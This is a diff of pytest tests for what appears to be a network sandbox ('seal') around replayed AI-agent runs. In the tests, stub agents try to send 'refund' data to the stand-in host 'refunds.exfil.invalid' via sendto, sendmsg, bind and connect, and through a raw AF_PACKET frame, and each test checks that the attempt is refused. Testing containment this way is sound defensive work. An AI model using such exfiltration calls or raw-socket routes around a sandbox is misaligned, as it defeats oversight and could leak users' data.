@@ -636,7 +636,7 @@ def test_a_forkserver_from_before_a_replay_is_not_its_and_one_from_it_does_not_o
         assert after.exitcode == 0 and len(payments.seen) == 1
 
 
-@pytest.mark.parametrize("how", ["connect", "connect_ex", "sendto"])
+@pytest.mark.parametrize("how", ["connect", "connect_ex", "sendto", "sendmsg", "bind"])
 def test_a_name_given_to_connect_is_refused_before_its_lookup_leaves(how):
     """CPython looks a name given to ``connect`` (``connect_ex``, ``sendto``) up before it raises the event
     the seal checks: a name that did not resolve was never refused, and its DNS query had left."""
@@ -644,11 +644,15 @@ def test_a_name_given_to_connect_is_refused_before_its_lookup_leaves(how):
 
     def build() -> Any:
         def agent(prompt: str) -> str:
-            kind = socket.SOCK_DGRAM if how == "sendto" else socket.SOCK_STREAM
+            kind = socket.SOCK_DGRAM if how in ("sendto", "sendmsg") else socket.SOCK_STREAM
             with socket.socket(socket.AF_INET, kind) as sock:
                 try:
                     if how == "sendto":
                         sock.sendto(b"refund", ("refunds.exfil.invalid", 53))
+                    elif how == "sendmsg":
+                        sock.sendmsg([b"refund"], [], 0, ("refunds.exfil.invalid", 53))
+                    elif how == "bind":  # socket.create_server binds so: the name is looked up
+                        sock.bind(("refunds.exfil.invalid", 0))
                     else:
                         getattr(sock, how)(("refunds.exfil.invalid", 443))
                 except OSError as exc:
@@ -658,6 +662,30 @@ def test_a_name_given_to_connect_is_refused_before_its_lookup_leaves(how):
         return agent
 
     (r,) = replay([refund_case()], build, timeout=30).results
-    port = 53 if how == "sendto" else 443
+    port = {"sendto": 53, "sendmsg": 53, "bind": 0}.get(how, 443)
     assert f"connect to refunds.exfil.invalid:{port}" in refused_detail(r)
     assert r.answer == "failed: Sealed"
+
+
+@pytest.mark.skipif(not hasattr(socket, "AF_PACKET") or os.geteuid() != 0, reason="a raw packet socket needs root")
+def test_a_raw_packet_socket_is_refused_as_it_is_made():
+    """Bound to an interface, an ``AF_PACKET`` socket sends frames with ``send()``: no address, so no event
+    the seal reads; it is refused as it is made."""
+
+    def build() -> Any:
+        def agent(prompt: str) -> str:
+            try:
+                with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as raw:
+                    raw.bind(("lo", 0))
+                    raw.send(b"\xff" * 12 + b"\x08\x00" + b"refund A1001")
+            except OSError as exc:
+                return f"failed: {type(exc).__name__}"
+            return "sent"
+
+        return agent
+
+    (r,) = replay([refund_case()], build, timeout=30).results
+    assert f"open a socket of family {int(socket.AF_PACKET)}: not a network the seal allows" in refused_detail(r)
+    assert r.answer == "failed: Sealed"
+    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW):  # outside a replay, as ever
+        pass
